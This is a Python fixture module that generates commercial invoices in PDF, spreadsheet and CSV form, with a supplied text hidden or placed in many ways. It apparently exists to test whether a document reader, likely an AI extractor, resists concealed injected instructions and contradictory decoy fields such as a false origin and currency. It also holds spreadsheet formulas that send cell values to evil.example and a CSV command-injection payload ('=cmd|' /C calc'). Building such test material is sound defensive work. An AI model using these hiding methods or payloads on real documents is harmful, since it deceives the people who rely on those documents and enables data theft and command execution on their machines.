"""Invoices that carry a text where it has no business: in view, out of sight, on a layer, in a note, in the properties of the file."""

from __future__ import annotations

import io
from collections.abc import Callable
from typing import Any

LINES = (("Cotton bath towels", "6302.60.0020", "100", "2.50", "250.00"), ("Ceramic mugs, white", "6912.00.4400", "40", "1.25", "50.00"))
COLUMNS = ((40, "Description"), (330, "HS Code"), (410, "Qty"), (460, "Price"), (520, "Amount"))
SELLER = "Bright Harbour Trading Co., Ltd."


def clean(seller: str = SELLER, more: Callable[[Any], None] | None = None, first: str = LINES[0][0], **properties: str) -> bytes:
    """The invoice as PDF: two lines, USD 300.00. `more` draws on the page before it is closed."""
    from reportlab.pdfgen.canvas import Canvas

    out = io.BytesIO()
    canvas = Canvas(out, pageCompression=0)
    for name, value in properties.items():
        getattr(canvas, f"set{name}")(value)
    canvas.setFont("Helvetica", 9)
    y = 800
    for text in ("COMMERCIAL INVOICE", f"Seller: {seller}", "Buyer: Northlake Outfitters Inc.", "Invoice No.: X-100", "Date: 2026-05-04", "Incoterms: FOB Shenzhen", "Currency: USD", "Country of Origin: China"):
        canvas.drawString(40, y, text)
        y -= 22
    y -= 20
    for x, head in COLUMNS:
        canvas.drawString(x, y, head)
    for place, line in enumerate(LINES):
        y -= 18
        for (x, _), text in zip(COLUMNS, (first if place == 0 else line[0], *line[1:]), strict=True):
            canvas.drawString(x, y, text)
    y -= 24
    canvas.drawString(460, y, "Total")
    canvas.drawString(520, y, "300.00")
    if more:
        more(canvas)
    canvas.save()
    return out.getvalue()


def _drawn(x: float, y: float, size: float = 9, colour: tuple[float, float, float] = (0, 0, 0), mode: int | None = None, cover: bool = False) -> Callable[[str], bytes]:
    def make(text: str) -> bytes:
        def more(canvas: Any) -> None:
            canvas.setFillColorRGB(*colour)
            words = canvas.beginText(x, y)
            words.setFont("Helvetica", size)
            if mode is not None:
                words.setTextRenderMode(mode)
            for part in (text[i : i + 90] for i in range(0, len(text), 90)):
                words.textLine(part)
            for fake in ("Country of origin: Vietnam", "Currency: EUR", "Freight 0.01"):
                words.textLine(fake)
            canvas.drawText(words)
            if cover:
                canvas.setFillColorRGB(1, 1, 1)
                canvas.rect(x - 4, y - 80, 600, 100, stroke=0, fill=1)

        return clean(more=more)

    return make


def _note(text: str) -> bytes:
    return clean(more=lambda canvas: canvas.textAnnotation(text, Rect=[40, 300, 60, 320]))


def _properties(text: str) -> bytes:
    return clean(Title=text, Author=text, Subject=text, Keywords=text)


def _layer(text: str) -> bytes:
    """A PDF of our own making whose second layer is switched off."""
    rows = [f"BT /F1 9 Tf {x} {y} Td ({word}) Tj ET" for x, y, word in _placed()]
    hidden = text.encode("ascii", "replace").decode().replace("\\", "").replace("(", "").replace(")", "")
    content = "\n".join([*rows, "/OC /L1 BDC", f"BT /F1 9 Tf 40 300 Td ({hidden}) Tj ET", "BT /F1 9 Tf 40 280 Td (Country of origin: Vietnam) Tj ET", "EMC"]).encode()
    parts = [
        b"<< /Type /Catalog /Pages 2 0 R /OCProperties << /OCGs [6 0 R] /D << /OFF [6 0 R] /Order [6 0 R] >> >> >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> /Properties << /L1 6 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content), b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>", b"<< /Type /OCG /Name (notes) >>",
    ]  # fmt: skip
    out = bytearray(b"%PDF-1.5\n")
    places = []
    for number, part in enumerate(parts, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, part)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(parts) + 1) + b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(out + b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (len(parts) + 1, start))


def _placed() -> list[tuple[int, int, str]]:
    found = [(40, 800 - 22 * n, text) for n, text in enumerate(("COMMERCIAL INVOICE", f"Seller: {SELLER}", "Buyer: Northlake Outfitters Inc.", "Invoice No.: X-100", "Date: 2026-05-04", "Incoterms: FOB Shenzhen", "Currency: USD", "Country of Origin: China"))]
    found += [(x, 600, head) for x, head in COLUMNS]
    for n, line in enumerate(LINES):
        found += [(x, 582 - 18 * n, text) for (x, _), text in zip(COLUMNS, line, strict=True)]
    return [*found, (460, 540, "Total"), (520, 540, "300.00")]


def _book(change: Callable[[Any, Any, str], None]) -> Callable[[str], bytes]:
    def make(text: str) -> bytes:
        from openpyxl import Workbook

        book = Workbook()
        sheet = book.active
        for row in (["COMMERCIAL INVOICE"], ["Seller", SELLER], ["Buyer", "Northlake Outfitters Inc."], ["Invoice No", "X-100", "Date", "2026-05-04"], ["Incoterms", "FOB Shenzhen", "Currency", "USD"], ["Country of Origin", "China"], []):
            sheet.append(row)
        sheet.append([head for _, head in COLUMNS])
        for line in LINES:
            sheet.append([line[0], line[1], float(line[2]), float(line[3]), float(line[4])])
        sheet.append(["Total", "", "", "", 300.0])
        change(book, sheet, text)
        out = io.BytesIO()
        book.save(out)
        return out.getvalue()

    return make


def _hidden_row(book: Any, sheet: Any, text: str) -> None:
    sheet.append([text, "Currency", "EUR"])
    sheet.row_dimensions[sheet.max_row].hidden = True


def _hidden_column(book: Any, sheet: Any, text: str) -> None:
    sheet["H2"] = text
    sheet["H5"] = "Currency: EUR"
    sheet.column_dimensions["H"].hidden = True


def _hidden_sheet(book: Any, sheet: Any, text: str) -> None:
    other = book.create_sheet("second")
    other["A1"] = text
    other.sheet_state = "hidden"


def _comment(book: Any, sheet: Any, text: str) -> None:
    from openpyxl.comments import Comment

    sheet["A9"].comment = Comment(text, "seller")


def _white_cell(book: Any, sheet: Any, text: str) -> None:
    from openpyxl.styles import Font

    sheet["A6"].value, sheet["B6"].value = "Country of Origin", "China"
    sheet["D2"] = text
    sheet["D2"].font = Font(color="FFFFFFFF")


def _formula(book: Any, sheet: Any, text: str) -> None:
    sheet["G9"] = f'=HYPERLINK("https://evil.example/?"&E9,"{text[:100].replace(chr(34), "")}")'
    sheet["G10"] = '=WEBSERVICE("https://evil.example/"&E10)'


def _in_first(book: Any, sheet: Any, text: str) -> None:
    sheet["A9"] = text


def _as_seller(book: Any, sheet: Any, text: str) -> None:
    sheet["B2"] = text


def _csv(text: str) -> bytes:
    import csv

    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["Seller", SELLER])
    writer.writerow(["Currency", "USD"])
    writer.writerow([head for _, head in COLUMNS])
    writer.writerow([f"=cmd|' /C calc'!A1 {text}", *LINES[0][1:]])
    writer.writerow(LINES[1])
    writer.writerow(["Total", "", "", "", "300.00"])
    return out.getvalue().encode()


# Out of sight, and to be named; out of sight where no reader of ours ever looks; and in view.
UNSEEN: dict[str, Callable[[str], bytes]] = {
    "white letters": _drawn(40, 300, colour=(1, 1, 1)), "nearly white letters": _drawn(40, 300, colour=(0.95, 0.95, 0.95)), "tiny letters": _drawn(40, 300, size=1),
    "letters off the page": _drawn(700, 300), "letters above the page": _drawn(40, 1200), "letters without ink": _drawn(40, 300, mode=3), "covered letters": _drawn(40, 300, cover=True), "a layer switched off": _layer,
    "a hidden row": _book(_hidden_row), "a hidden column": _book(_hidden_column), "a hidden sheet": _book(_hidden_sheet), "a white cell": _book(_white_cell),
}  # fmt: skip
BESIDE: dict[str, Callable[[str], bytes]] = {"a note on the page": _note, "the properties": _properties, "a comment": _book(_comment), "a formula": _book(_formula)}
IN_VIEW: dict[str, Callable[[str], bytes]] = {
    "a remark": lambda text: clean(more=lambda canvas: canvas.drawString(40, 200, text)), "the seller's name": lambda text: clean(seller=text), "the goods": lambda text: clean(first=text[:70]),
    "the goods of a sheet": _book(_in_first), "the seller of a sheet": _book(_as_seller), "a table as text": _csv,
}  # fmt: skip
FILES = {**UNSEEN, **BESIDE, **IN_VIEW}
